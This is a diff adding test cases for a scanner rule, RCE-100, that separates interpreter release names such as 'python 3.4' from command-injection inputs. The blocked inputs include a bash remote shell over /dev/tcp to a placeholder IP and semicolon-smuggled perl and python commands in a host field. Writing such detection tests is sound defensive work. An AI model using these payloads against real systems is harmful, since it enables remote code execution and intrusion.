@@ -299,3 +299,27 @@ describe('NODE-110: prototype pollution, not __proto__ named in inline code', ()
     expectDetected(req, 'NODE-110');
   });
 });
+
+describe('RCE-100: an interpreter followed by a version number is a release name', () => {
+  it.each([
+    ['a Python release in a changelog', '* When using Python 2, version 2.7 is now required.\n* python 3.4 or later'],
+    ['a Bash release in a README', 'Differences from bash\nbash 5 is the reference for this module'],
+    ['a minimum Perl version', 'tools to build groff:\n  perl >= v5.6.1 (see macro)'],
+  ])('allows %s', (_name, text) => {
+    // Prepare
+    const req = json({ title: 'doc', body: text });
+    // Act + Assess
+    expectNotFlaggedBy(req, 'RCE-100');
+  });
+
+  it.each([
+    ['bash reading from a socket descriptor', 'x|bash 5<>/dev/tcp/198.51.100.7/80'],
+    ['perl running a dropped script', 'x;perl 1.pl'],
+    ['python with a flag', 'x;python3 -c "import os"'],
+  ])('blocks %s at sensitivity 70', (_name, value) => {
+    // Prepare
+    const req = json({ host: value });
+    // Act + Assess
+    expectDetected(req, 'RCE-100');
+  });
+});
